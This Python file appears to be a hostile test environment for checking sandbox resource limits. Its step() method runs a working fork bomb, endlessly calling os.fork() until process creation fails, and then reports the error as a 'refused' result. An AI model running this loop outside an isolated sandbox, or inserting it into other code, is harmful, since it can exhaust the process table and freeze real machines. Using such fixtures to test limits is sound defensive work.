"""Multiplies itself. The machine's table of processes would fill up."""
import os


class HostileEnv:
    def __init__(self, max_turns=5, **kwargs):
        self.max_turns = max_turns

    def reset(self, seed=None):
        return "ready", {}

    def step(self, action):
        try:
            while True:
                if os.fork() == 0:
                    continue
        except OSError as error:
            return f"refused: {type(error).__name__} {error.errno}", 0.0, False, False, {}
